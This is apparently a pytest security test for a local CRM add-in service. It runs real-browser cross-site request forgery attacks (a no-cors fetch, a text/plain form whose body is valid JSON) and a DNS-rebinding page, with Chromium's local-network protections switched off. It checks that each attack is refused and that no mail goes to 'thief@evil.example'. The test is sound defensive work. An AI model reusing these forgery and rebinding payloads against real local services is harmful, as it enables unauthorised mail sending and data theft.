"""Attacks on a running ``xlcrm serve`` from a real browser, and the pane that still works.

Debian's Chromium (Playwright) opens a page from **another origin** on loopback — a plain
HTTP server on another port, as any web site the user visits could be — and that page tries
what issue 13 found working: a ``fetch`` with ``mode: "no-cors"`` and a text/plain body, a
``<form>`` POST whose text/plain body is valid JSON, and a DNS-rebinding page (its host name
resolved to 127.0.0.1 by Chromium's own resolver rules, so the browser treats the service as
same-origin and the service sees the foreign ``Host``). Each attack carries a request that
really works: the same bytes sent by the add-in's own code (``api.js`` from the service's
origin) deliver a test e-mail to the aiosmtpd sink and read the local Maildir. The attacks
must leave the sink empty and read nothing.

Nothing is mocked: the service is ``xlcrm serve --no-tls`` in a subprocess with its own
per-install token, and the mail server is aiosmtpd with STARTTLS and a login.
"""

from __future__ import annotations

import functools
import http.server
import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from addin_client import serve_process
from chromium import ARGS, launched
from maildirs import Mail, mail
from officehost import OfficeHost
from pipeline_books import PASSWORD, received, smtp_url

from addin.init import create_workbook
from addin.settings import write_settings
from addin.workbook import open_book

pytestmark = pytest.mark.timeout(180)

REBIND = "rebind.test"
CHROMIUM_ARGS = [
    *ARGS,
    # DNS rebinding without a DNS server: this name now resolves to the service's address.
    f"--host-resolver-rules=MAP {REBIND} 127.0.0.1",
    # Chromium's own Private/Local Network Access checks would stop the rebinding page before
    # the service sees it. Other browsers and Office's web views do not all have them, and a
    # user may allow the prompt: the service must hold without them.
    "--disable-features=PrivateNetworkAccessSendPreflights,"
    "PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests,"
    "LocalNetworkAccessChecks",
]
SECRET_SUBJECT = "季度报价 confidential"


@pytest.fixture
def service(tmp_path: Path, certificate: Any, smtp: Any) -> Iterator[tuple[str, str]]:
    """``xlcrm serve --no-tls`` on a loopback port; ``(base URL, its per-install token)``.
    It is set up, as its user would, for the Maildir and the SMTP server the workbook's
    Settings name (``--mailbox``, ``--transport``): the attacks target what it may open."""
    home = tmp_path / "home"
    env = {
        **os.environ,
        "HOME": str(home),
        "XLCRM_HOME": str(home / ".xlcrm"),
        "XDG_CONFIG_HOME": str(home / "config"),
        "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring",
        "SSL_CERT_FILE": str(certificate.ca),
        "XLCRM_PASSWORD": PASSWORD,
    }
    env.pop("XLCRM_SERVICE_TOKEN", None)
    with serve_process(
        "--mailbox", f"maildir:{tmp_path / 'mail'}", "--transport", smtp_url(smtp), env=env
    ) as (base, _):
        token_file = home / ".xlcrm" / "service-token"
        assert token_file.stat().st_mode & 0o777 == 0o600
        yield base, token_file.read_text().strip()


@pytest.fixture
def attacker(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A plain web server on another loopback port: another origin. ``(URL, its folder)``."""
    folder = tmp_path / "site"
    folder.mkdir()
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", folder
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched(*CHROMIUM_ARGS) as chromium:
        yield chromium


def bodies(tmp_path: Path, smtp: Any, base: str, token: str) -> dict[str, str]:
    """Working run requests, as the add-in would post them: a test e-mail to the attacker's
    address through the workbook's SMTP server, and a sync of the user's local Maildir."""
    box = Mail(tmp_path / "mail", "me@ours.cn")
    box.receive(mail("王伟 <wang@hd.cn>", "me@ours.cn", SECRET_SUBJECT, ident="m1@hd.cn"))
    path = create_workbook(tmp_path / "crm.xlsx", "en")
    with open_book(path) as book:
        book.table("customers").insert_all(
            [{"name": "王伟", "company": "上海华东贸易有限公司", "email": "wang@hd.cn"}]
        )
        write_settings(
            book,
            {
                "mailbox": box.url,
                "transport": smtp_url(smtp),
                "sender": "Star Software <sales@ours.cn>",
                "company_name": "Star Software",
            },
        )
    host = OfficeHost.from_xlsx(path)
    http = httpx.Client(
        base_url=base, headers={"X-Xlcrm-Client": "tests", "Authorization": f"Bearer {token}"}
    )
    made = {}
    for name, command, options in (
        (
            "campaign",
            "campaign",
            {
                "step": "test",
                "template": "emails/welcome",
                "name": "spring=2027",
                "test_to": "thief@evil.example",
            },
        ),
        ("sync", "sync", {"phase": "record"}),
    ):
        request = host.request(command, options)
        plan = http.post("/api/v1/plan", json=request).json()
        made[name] = json.dumps({**request, "tables": host.read(plan["reads"])})
    return made


def test_other_origins_and_rebinding_pages_run_nothing_and_the_pane_still_works(
    tmp_path: Path, service: tuple[str, str], attacker: tuple[str, Path], smtp: Any, browser: Any
) -> None:
    base, token = service
    port = base.rsplit(":", 1)[1]
    made = bodies(tmp_path, smtp, base, token)
    assert received(smtp) == []
    site, folder = attacker
    statuses: dict[str, int] = {}

    def record(response: Any) -> None:
        if "/api/" in response.url:
            statuses[f"{response.request.method} {response.url}"] = response.status

    # 1 and 2: a page on another origin, a no-cors fetch and a form post (text/plain bodies).
    # A text/plain form posts "name=value": split the JSON at the "=" of the campaign's name,
    # and the form's body is exactly the working request.
    before, after = made["campaign"].split('"spring=2027"')
    head, tail = before + '"spring', '2027"' + after
    (folder / "attack.html").write_text(
        f"""<!DOCTYPE html><meta charset="utf-8"><body>
<form id="f" method="POST" enctype="text/plain" action="{base}/api/v1/run">
<input type="hidden" name='{head.replace("'", "&#39;")}' value='{tail.replace("'", "&#39;")}'>
</form>
<script>
window.attack = async () => {{
  try {{
    const r = await fetch("{base}/api/v1/run", {{method: "POST", mode: "no-cors",
      headers: {{"Content-Type": "text/plain"}}, body: {json.dumps(made["campaign"])}}});
    return r.type;
  }} catch (err) {{
    return String(err);
  }}
}};
</script>""",
        encoding="utf-8",
    )
    context = browser.new_context()
    page = context.new_page()
    page.on("response", record)
    page.goto(f"{site}/attack.html")
    # Sent, refused, and the answer withheld from the page (Cross-Origin-Resource-Policy).
    assert page.evaluate("window.attack()") == "TypeError: Failed to fetch"
    with page.expect_navigation():
        page.evaluate("document.getElementById('f').submit()")
    form_answer = json.loads(page.locator("body").inner_text())
    assert form_answer["error"]["kind"] == "auth"
    assert "only the add-in's own pages may call this service" in form_answer["error"]["message"]
    assert statuses == {f"POST {base}/api/v1/run": 403}  # both refused before anything ran

    # 3: DNS rebinding. The page "is" http://rebind.test:<port> (served by the attacker, then
    # the name resolves to 127.0.0.1): to the browser the service is same-origin now, so it
    # sends the add-in's header and JSON, and could read the answers.
    statuses.clear()
    rebound = f"http://{REBIND}:{port}"
    page.route(
        f"{rebound}/attack.html",
        lambda route: route.fulfill(status=200, content_type="text/html", body="<p>hi</p>"),
    )
    page.goto(f"{rebound}/attack.html")
    stolen = page.evaluate(
        """async ([campaign, sync]) => {
          const headers = {"Content-Type": "application/json", "X-Xlcrm-Client": "taskpane"};
          const session = await fetch("/api/v1/session", {headers});
          const answers = [];
          for (const body of [campaign, sync]) {
            const r = await fetch("/api/v1/run", {method: "POST", headers, body});
            answers.push([r.status, await r.text()]);
          }
          return {session: [session.status, await session.text()], answers};
        }""",
        [made["campaign"], made["sync"]],
    )
    assert stolen["session"][0] == 421
    assert token not in stolen["session"][1]
    assert "does not answer for the host name 'rebind.test'" in stolen["session"][1]
    assert [status for status, _ in stolen["answers"]] == [421, 421]
    assert not any(SECRET_SUBJECT in text for _, text in stolen["answers"])
    # The same from a raw HTTP client that knows the token: the Host alone is refused.
    raw = httpx.post(
        f"{base}/api/v1/run",
        content=made["sync"],
        headers={
            "Host": f"{REBIND}:{port}",
            "Content-Type": "application/json",
            "X-Xlcrm-Client": "taskpane",
            "Authorization": f"Bearer {token}",
        },
    )
    assert raw.status_code == 421
    assert SECRET_SUBJECT not in raw.text
    context.close()
    assert received(smtp) == []  # no attack reached the mail server

    # The add-in's own code on the service's own origin: the same bodies work.
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{base}/help.html")
    answers = page.evaluate(
        """async ([campaign, sync]) => {
          const { call } = await import("/js/api.js");
          const conn = { baseUrl: "", token: null, fetch: (...a) => fetch(...a), lang: "en" };
          conn.token = (await call(conn, "GET", "/api/v1/session")).token;
          return [await call(conn, "POST", "/api/v1/run", JSON.parse(campaign)),
                  await call(conn, "POST", "/api/v1/run", JSON.parse(sync))];
        }""",
        [made["campaign"], made["sync"]],
    )
    context.close()
    assert answers[0]["result"]["summary"] == "test message sent to thief@evil.example"
    assert [m["To"] for m in received(smtp)] == ["thief@evil.example"]
    assert SECRET_SUBJECT in json.dumps(answers[1], ensure_ascii=False)
